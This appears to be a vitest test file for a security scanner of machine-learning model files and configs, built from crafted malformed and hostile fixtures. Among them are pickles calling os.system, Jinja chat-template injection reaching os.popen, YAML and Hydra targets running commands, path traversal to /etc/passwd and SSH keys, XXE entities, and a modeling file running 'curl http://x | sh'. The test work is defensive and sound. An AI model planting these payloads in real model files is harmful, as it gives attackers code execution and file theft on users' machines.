import { expect, test } from "vitest";
import { workspace } from "../../harness/check.ts";
import * as g from "../../harness/gguf.ts";
import * as h from "../../harness/hdf5.ts";
import * as k from "../../harness/keras.ts";
import * as o from "../../harness/onnx.ts";
import * as p from "../../harness/pickle.ts";
import * as st from "../../harness/safetensors.ts";
import * as tar from "../../harness/tar.ts";
import * as tf from "../../harness/tensorflow.ts";
import * as tl from "../../harness/tflite.ts";
import * as zip from "../../harness/zip.ts";

/**
 * Models and what lies beside them, as somebody would make them who has not seen the readers: malformed and hostile
 * ones, which have to be told, and clean ones, of which nothing may be said.
 */
type Wanted = "error" | "warning" | "clean";
type Content = string | Uint8Array;

const cases: [name: string, wanted: Wanted, files: Readonly<Record<string, Content>>, checked: string][] = [];

function F(
  wanted: Wanted,
  name: string,
  files: Readonly<Record<string, Content>>,
  checked = Object.keys(files)[0] ?? "",
) {
  cases.push([name, wanted, files, checked]);
}

const X = (name: string, file: string, content: Content) => F("error", name, { [file]: content });
const W = (name: string, file: string, content: Content) => F("warning", name, { [file]: content });
const C = (name: string, file: string, content: Content) => F("clean", name, { [file]: content });
const J = JSON.stringify;

// safetensors
const hdr = (s: string, n = 4) => st.raw(s.padEnd(Math.ceil(s.length / 8) * 8), new Uint8Array(n));
W(
  "st header bigger than file",
  "m.safetensors",
  st.raw(st.padded('{"a":{"dtype":"U8","shape":[9],"data_offsets":[0,9]}}'), new Uint8Array(2)),
);
W(
  "st dup keys",
  "m.safetensors",
  hdr(
    '{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}',
  ),
);
W(
  "st overlap",
  "m.safetensors",
  hdr(
    '{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[2],"data_offsets":[2,4]}}',
  ),
);
W(
  "st gap",
  "m.safetensors",
  hdr(
    '{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"b":{"dtype":"U8","shape":[2],"data_offsets":[2,4]}}',
  ),
);
W("st negative offset", "m.safetensors", hdr('{"a":{"dtype":"U8","shape":[4],"data_offsets":[-4,4]}}'));
W("st float offset", "m.safetensors", hdr('{"a":{"dtype":"U8","shape":[4],"data_offsets":[0.0,4.0]}}'));
W("st begin>end", "m.safetensors", hdr('{"a":{"dtype":"U8","shape":[4],"data_offsets":[4,0]}}'));
W("st unknown dtype", "m.safetensors", hdr('{"a":{"dtype":"O","shape":[4],"data_offsets":[0,4]}}'));
W(
  "st metadata non string",
  "m.safetensors",
  hdr('{"__metadata__":{"a":{"b":1}},"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}'),
);
W(
  "st overflow dims",
  "m.safetensors",
  hdr('{"a":{"dtype":"U8","shape":[4294967296,4294967296],"data_offsets":[0,4]}}'),
);
W("st trailing", "m.safetensors", hdr('{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}', 400));
W("st comment in json", "m.safetensors", hdr('{/*x*/"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}'));
W("st trailing comma", "m.safetensors", hdr('{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},}'));
W("st utf16 header", "m.safetensors", st.raw(new Uint8Array(Buffer.from('{"a":1}', "utf16le")), 4));
W("st NaN", "m.safetensors", hdr('{"a":{"dtype":"U8","shape":[NaN],"data_offsets":[0,4]}}'));
W("st nested array header", "m.safetensors", hdr('[{"a":1}]'));
W("st prefix spaces", "m.safetensors", hdr('  {"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}'));
X(
  "st pickle appended",
  "m.safetensors",
  p.join(
    hdr('{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}'),
    p.file(p.call(p.global("os", "system"), p.text("id"))),
  ),
);
X(
  "st zip appended",
  "m.safetensors",
  p.join(
    hdr('{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}'),
    zip.archive([zip.member("data.pkl", p.file(p.call(p.global("os", "system"), p.text("id"))))]),
  ),
);
W(
  "st extra key in tensor",
  "m.safetensors",
  hdr('{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4],"code":"import os"}}'),
);
F("warning", "st index escapes", {
  "model.safetensors.index.json": J({ metadata: {}, weight_map: { a: "../../etc/passwd" } }),
});
F("warning", "st index abs", {
  "model.safetensors.index.json": J({ weight_map: { a: "/tmp/x.safetensors" } }),
});
F("warning", "st index url", {
  "model.safetensors.index.json": J({ weight_map: { a: "https://evil/x.safetensors" } }),
});
F("warning", "st index names pickle", {
  "model.safetensors.index.json": J({ metadata: {}, weight_map: { a: "model-1.bin" } }),
  "model-1.bin": "x",
});
C("st clean", "m.safetensors", st.file({ a: st.tensor("F16", 2, 2) }, { format: "pt" }));
C("st clean scalar", "m.safetensors", st.file({ a: st.tensor("F32") }));
C("st clean zero dim", "m.safetensors", st.file({ a: st.tensor("F32", 0, 3) }));
C("st clean fp8", "m.safetensors", st.file({ a: st.tensor("F8_E4M3", 4) }));
C(
  "st clean names",
  "m.safetensors",
  st.file(
    { "model.layers.0.self_attn.q_proj.weight": st.tensor("BF16", 4, 4) },
    { format: "pt", total_size: "32", _lora_name: "ü" },
  ),
);
for (const n of [128, 384, 640, 896, 1152, 1408, 65664])
  C(
    `st len ${n}`,
    "m.safetensors",
    st.raw('{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'.padEnd(n), new Uint8Array(1)),
  );
// gguf
const gg = (...more: (typeof g.usual)[number][]) => g.file({ entries: [...g.usual, ...more] });
W("gguf count lies", "m.gguf", g.file({ entries: [...g.usual], entryCount: 1e9 }));
W("gguf tensors lies", "m.gguf", g.file({ entries: [...g.usual], tensorCount: 2 ** 40 }));
W("gguf string len", "m.gguf", g.file({ entries: [g.string("general.name", "x", 2n ** 62n)] }));
W(
  "gguf array huge",
  "m.gguf",
  g.file({ entries: [g.entry("a", g.types.array, g.array(g.types.uint32, 2n ** 60n))] }),
);
X(
  "gguf template ssti",
  "m.gguf",
  gg(g.string("tokenizer.chat_template.tool", "{{ cycler.__init__.__globals__.os.popen('id').read() }}")),
);
X(
  "gguf template lipsum",
  "m.gguf",
  g.file({
    entries: [
      g.string("general.architecture", "llama"),
      g.string("tokenizer.chat_template", "{{ lipsum.__globals__['os'].system('id') }}"),
    ],
  }),
);
X(
  "gguf template attr filter",
  "m.gguf",
  g.file({
    entries: [
      g.string("general.architecture", "llama"),
      g.string("tokenizer.chat_template", "{{ ''|attr('__class__')|attr('__mro__') }}"),
    ],
  }),
);
X(
  "gguf template hex attr",
  "m.gguf",
  g.file({
    entries: [
      g.string("general.architecture", "llama"),
      g.string("tokenizer.chat_template", "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}"),
    ],
  }),
);
X(
  "gguf template concat attr",
  "m.gguf",
  g.file({
    entries: [
      g.string("general.architecture", "llama"),
      g.string("tokenizer.chat_template", "{% set a='__cla'~'ss__' %}{{ ''[a] }}"),
    ],
  }),
);
X(
  "gguf template joined attr",
  "m.gguf",
  g.file({
    entries: [
      g.string("general.architecture", "llama"),
      g.string("tokenizer.chat_template", "{{ ''|attr(['__','class','__']|join) }}"),
    ],
  }),
);
W("gguf bad version", "m.gguf", g.file({ version: 77, entries: [...g.usual] }));
W("gguf alignment zero", "m.gguf", gg(g.uint32("general.alignment", 0)));
W("gguf alignment odd", "m.gguf", gg(g.uint32("general.alignment", 7)));
W("gguf dup key", "m.gguf", gg(g.string("general.name", "other")));
C("gguf clean", "m.gguf", gg());
C(
  "gguf clean template",
  "m.gguf",
  g.file({
    entries: [
      g.string("general.architecture", "llama"),
      g.string(
        "tokenizer.chat_template",
        "{%- if messages[0]['role'] == 'system' %}{{ messages[0]['content'] }}{%- endif %}{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\n' + m['content']|trim + '<|im_end|>' }}{% endfor %}{% if add_generation_prompt %}{{ raise_exception('x') if false else '' }}{% endif %}{%- set ns = namespace(a=1) %}{{ ns.a }}{{ strftime_now('%d') }}{{ tools | tojson(indent=4) }}",
      ),
    ],
  }),
);
// onnx
const model = (...parts: Uint8Array[]) => o.model(o.opset("", 17), ...parts);
W(
  "onnx external abs",
  "m.onnx",
  model(o.graph(o.initializer(o.tensor("w", 1, 4), o.external({ location: "/etc/passwd" })))),
);
W(
  "onnx external ..",
  "m.onnx",
  model(o.graph(o.initializer(o.tensor("w", 1, 4), o.external({ location: "../../../home/x/.ssh/id_rsa" })))),
);
W(
  "onnx external win",
  "m.onnx",
  model(o.graph(o.initializer(o.tensor("w", 1, 4), o.external({ location: "C:\\Windows\\win.ini" })))),
);
W(
  "onnx external backslash",
  "m.onnx",
  model(o.graph(o.initializer(o.tensor("w", 1, 4), o.external({ location: "..\\..\\x" })))),
);
W(
  "onnx external missing",
  "m.onnx",
  model(o.graph(o.initializer(o.tensor("w", 1, 4), o.external({ location: "w.bin" })))),
);
W(
  "onnx external url",
  "m.onnx",
  model(o.graph(o.initializer(o.tensor("w", 1, 4), o.external({ location: "https://x/y" })))),
);
X(
  "onnx PyOp",
  "m.onnx",
  model(o.opset("ai.onnx.contrib", 1), o.graph(o.node("PyOp", "ai.onnx.contrib", o.text("module", "os")))),
);
W(
  "onnx PythonOp",
  "m.onnx",
  model(
    o.opset("com.microsoft", 1),
    o.graph(o.node("PythonOp", "com.microsoft", o.text("name", "os.system"))),
  ),
);
W(
  "onnx ATen",
  "m.onnx",
  model(
    o.opset("org.pytorch.aten", 1),
    o.graph(o.node("ATen", "org.pytorch.aten", o.text("operator", "from_file"))),
  ),
);
W(
  "onnx subgraph custom",
  "m.onnx",
  model(o.graph(o.node("If", "", o.subgraph("then_branch", o.nodeBody("Run", "evil"))))),
);
W("onnx negative dims", "m.onnx", model(o.graph(o.initializer(o.tensor("w", 1, -4), o.data(16)))));
W(
  "onnx huge dims",
  "m.onnx",
  model(o.graph(o.initializer(o.tensor("w", 1, 2n ** 62n, 2n ** 62n), o.data(16)))),
);
W("onnx truncated", "m.onnx", model(o.graph(o.initializer(o.tensor("w", 1, 4), o.data(16)))).slice(0, -5));
W(
  "onnx trailing zip",
  "m.onnx",
  p.join(
    model(o.graph()),
    zip.archive([zip.member("a.pkl", p.file(p.call(p.global("os", "system"), p.text("id"))))]),
  ),
);
C(
  "onnx clean",
  "m.onnx",
  model(o.graph(o.node("Relu"), o.input("x", 1, "batch", 3), o.initializer(o.tensor("w", 1, 4), o.data(16)))),
);
C(
  "onnx clean ml",
  "m.onnx",
  model(o.opset("ai.onnx.ml", 3), o.graph(o.node("TreeEnsembleClassifier", "ai.onnx.ml"))),
);
C(
  "onnx clean ms",
  "m.onnx",
  model(o.opset("com.microsoft", 1), o.graph(o.node("FusedMatMul", "com.microsoft"))),
);
// keras
X("keras lambda", "m.keras", k.archive(k.sequential(k.lambda("os"))));
X("keras foreign module", "m.keras", k.archive(k.sequential(k.layer("Popen", {}, { module: "subprocess" }))));
X(
  "keras fn os.system",
  "m.keras",
  k.archive(k.sequential(k.layer("Activation", { activation: k.fn("system", "os") }))),
);
X(
  "keras nested lambda in wrapper",
  "m.keras",
  k.archive(k.sequential(k.layer("TimeDistributed", { layer: k.lambda("os") }))),
);
X(
  "keras registered name builtins",
  "m.keras",
  k.archive(k.sequential(k.layer("eval", {}, { module: "builtins", registered_name: "eval" }))),
);
X(
  "keras get_file",
  "m.keras",
  k.archive(k.sequential(k.layer("Activation", { activation: k.fn("get_file", "keras.utils") }))),
);
X(
  "keras member ..",
  "m.keras",
  k.archive(k.sequential(k.layer("Dense")), { members: [zip.member("../../evil.py", p.utf8("x"))] }),
);
W(
  "keras member pth",
  "m.keras",
  k.archive(k.sequential(k.layer("Dense")), {
    members: [zip.member("assets/x.so", p.join(p.latin1("\x7fELF"), new Uint8Array(200)))],
  }),
);
X("keras h5 lambda", "m.h5", k.h5({ class_name: "Sequential", config: { layers: [k.oldLambda("os")] } }));
X(
  "keras h5 external link",
  "m.h5",
  k.h5({ class_name: "Sequential", config: { layers: [] } }, { entries: { w: h.external("/etc/passwd") } }),
);
C(
  "keras clean",
  "m.keras",
  k.archive(
    k.sequential(k.layer("Dense", { units: 3, activation: "relu" }), k.layer("Dropout", { rate: 0.5 })),
  ),
);
C("keras clean h5", "m.h5", k.h5({ class_name: "Sequential", config: { layers: [k.oldLayer("Dense")] } }));
// hdf5
X(
  "h5 pickled rows",
  "a.h5",
  h.file(h.group({ rows: h.rows(p.file(p.call(p.global("os", "system"), p.text("id")))) })),
);
C("h5 clean", "a.h5", h.file(h.group({ x: h.floats(2, 2) })));
C("h5 soft link", "a.h5", h.file(h.group({ x: h.floats(2, 2), y: h.soft("/x") })));
// tf
for (const op of [
  "ReadFile",
  "WriteFile",
  "PyFunc",
  "EagerPyFunc",
  "PyFuncStateless",
  "MergeV2Checkpoints",
  "LoadLibrary",
  "MatchingFiles",
  "DatasetFromGraph",
  "ImmutableConst",
  "WholeFileReaderV2",
  "TextLineDataset",
  "TFRecordDataset",
  "RpcCall",
])
  W(`tf ${op}`, "saved_model.pb", tf.savedModel({ graph: tf.graph([tf.node(op, "n")]) }));
W(
  "tf op in function",
  "saved_model.pb",
  tf.savedModel({
    graph: tf.graph(
      [tf.node("StatefulPartitionedCall", "c", [], tf.calls("f", "evil"))],
      [tf.functionOf("evil", tf.nodeBody("WriteFile", "w", []))],
    ),
  }),
);
W("tf graphdef", "frozen.pb", tf.graph([tf.node("ReadFile", "r")]));
C(
  "tf clean",
  "saved_model.pb",
  tf.savedModel({
    graph: tf.graph([tf.node("MatMul", "a"), tf.node("Relu", "b"), tf.node("Placeholder", "c")]),
  }),
);
// tflite
W("tflite flex", "m.tflite", tl.model({ codes: [tl.custom("FlexWriteFile")] }));
C("tflite clean", "m.tflite", tl.model());
// configs
const cfg = (want: Wanted, n: string, f: string, o: unknown) =>
  F(want, n, { [f]: typeof o === "string" ? o : J(o) });
cfg("warning", "auto_map foreign repo", "config.json", {
  model_type: "x",
  auto_map: { AutoModel: "evil/repo--modeling.Evil" },
});
cfg("warning", "auto_map url", "config.json", {
  auto_map: { AutoModel: "https://x/y--m.E" },
  model_type: "x",
});
cfg("error", "chat template ssti", "tokenizer_config.json", {
  chat_template: "{{ ''.__class__.__mro__[1].__subclasses__() }}",
});
cfg("error", "chat template list ssti", "tokenizer_config.json", {
  chat_template: [{ name: "a", template: "{{ self.__init__.__globals__ }}" }],
});
F("error", "jinja file ssti", { "chat_template.jinja": "{{ joiner.__init__.__globals__ }}" });
F("warning", "jinja include", { "chat_template.jinja": "{% include '/etc/passwd' %}" });
cfg("warning", "model_index os", "model_index.json", { _class_name: "X", unet: ["os", "system"] });
cfg("error", "hydra target", "config.yaml", "model:\n  _target_: os.system\n  _args_: [id]\n");
cfg("error", "yaml python tag", "config.yaml", "x: !!python/object/apply:os.system ['id']\n");
F(
  "error",
  "modeling exec",
  {
    "config.json": J({ model_type: "x", auto_map: { AutoModel: "modeling_x.X" } }),
    "modeling_x.py": "import os\nos.system('curl http://x | sh')\n",
  },
  "modeling_x.py",
);
F(
  "warning",
  "handler exec",
  {
    "handler.py": "import subprocess\nsubprocess.run('id', shell=True)\nclass EndpointHandler:\n    pass\n",
    "model.safetensors": st.file({ a: st.tensor("F32", 1) }),
  },
  "handler.py",
);
F("warning", "MLmodel loader", {
  MLmodel:
    "flavors:\n  python_function:\n    loader_module: evil.loader\n    code: code\n    python_version: 3.10\n",
});
cfg("clean", "config clean", "config.json", {
  architectures: ["LlamaForCausalLM"],
  model_type: "llama",
  hidden_size: 4,
  torch_dtype: "bfloat16",
  transformers_version: "4.40.0",
  _name_or_path: "meta-llama/x",
});
cfg("clean", "tokenizer clean", "tokenizer_config.json", {
  tokenizer_class: "LlamaTokenizer",
  chat_template: "{% for m in messages %}{{ m.role }}: {{ m.content }}{% endfor %}",
  added_tokens_decoder: { "0": { content: "<unk>" } },
});
cfg("clean", "adapter clean", "adapter_config.json", {
  peft_type: "LORA",
  auto_mapping: null,
  base_model_name_or_path: "a/b",
  r: 8,
  target_modules: ["q_proj"],
});
cfg("clean", "model_index clean", "model_index.json", {
  _class_name: "StableDiffusionPipeline",
  _diffusers_version: "0.21",
  unet: ["diffusers", "UNet2DConditionModel"],
  text_encoder: ["transformers", "CLIPTextModel"],
  safety_checker: [null, null],
});
cfg("clean", "generation clean", "generation_config.json", {
  _from_model_config: true,
  bos_token_id: 1,
  transformers_version: "4.40",
});
cfg("clean", "modules clean", "modules.json", [
  { idx: 0, name: "0", path: "", type: "sentence_transformers.models.Transformer" },
  { idx: 1, name: "1", path: "1_Pooling", type: "sentence_transformers.models.Pooling" },
]);
cfg("clean", "preprocessor clean", "preprocessor_config.json", {
  image_processor_type: "ViTImageProcessor",
  do_resize: true,
  size: { height: 224 },
});
// others
W(
  "pmml xxe",
  "m.pmml",
  '<?xml version="1.0"?><!DOCTYPE P [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header/>&x;</PMML>',
);
W(
  "openvino entity",
  "m.xml",
  '<?xml version="1.0"?><!DOCTYPE n [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><net name="x" version="11"><layers/>&b;</net>',
);
W("llamafile", "m.llamafile", p.join(p.latin1("MZqFpD='\n\0"), new Uint8Array(4000)));
W(
  "mar handler",
  "m.mar",
  zip.archive([
    zip.member("MAR-INF/MANIFEST.json", p.utf8(J({ model: { handler: "handler.py", modelName: "x" } }))),
    zip.member("handler.py", p.utf8("import os\nos.system('id')")),
  ]),
);
X(
  "nemo target",
  "m.nemo",
  tar.archive([
    tar.member("./model_config.yaml", p.utf8("target: os.system\n_target_: os.system\n")),
    tar.member("./model_weights.ckpt", zip.pytorch(p.stream(2, p.none))),
  ]),
);
W(
  "tar symlink escape",
  "m.tar",
  tar.archive([tar.link("a", "/etc/passwd"), tar.member("a/x.pkl", p.file(p.none))]),
);
W("tar hardlink escape", "m.tar", tar.archive([tar.link("a", "../../etc/passwd", { type: "1" })]));
W("tar device", "m.tar", tar.archive([tar.member("dev", new Uint8Array(0), { type: "3" })]));
W(
  "zip path escape",
  "m.zip",
  zip.archive([zip.member("../../x.safetensors", st.file({ a: st.tensor("F32", 1) }))]),
);
C("lfs pointer text", "notes.txt", "hello");
W(
  "lfs pointer",
  "model.bin",
  "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n",
);
W(
  "exe as weights",
  "pytorch_model.bin",
  p.join(
    p.latin1("MZ"),
    new Uint8Array(58),
    p.raw(0x80, 0, 0, 0),
    new Uint8Array(64),
    p.latin1("PE\0\0"),
    new Uint8Array(400),
  ),
);
W("elf as weights", "model.pt", p.join(p.latin1("\x7fELF\x02\x01\x01"), new Uint8Array(400)));
W("html as weights", "model.safetensors", "<!doctype html><html>404</html>");
W("safetensors named gguf", "m.gguf", st.file({ a: st.tensor("F32", 1) }));
W("gguf named safetensors", "m.safetensors", gg());
W("onnx named pt", "m.pt", model(o.graph(o.node("Relu"))));
W("catboost trunc", "m.cbm", p.join(p.latin1("CBM1"), p.raw(0xff, 0xff, 0xff, 0x7f)));

test.each(cases)("%s: %s", async (_, wanted, files, checked) => {
  const inProject = Object.fromEntries(
    Object.entries(files).map(([name, content]) => [`/project/${name}`, content]),
  );
  const { findings } = await workspace(inProject).check(`/project/${checked}`);
  const severities = findings
    .map(({ severity }) => severity)
    .filter((one) => one === "error" || one === "warning");
  const told = findings.map(({ severity, rule, message }) => `${severity} ${rule}: ${message}`);
  if (wanted === "clean") expect(severities.length === 0 ? [] : told).toEqual([]);
  else expect(severities.includes("error") || severities.includes(wanted) ? "told" : told).toBe("told");
});
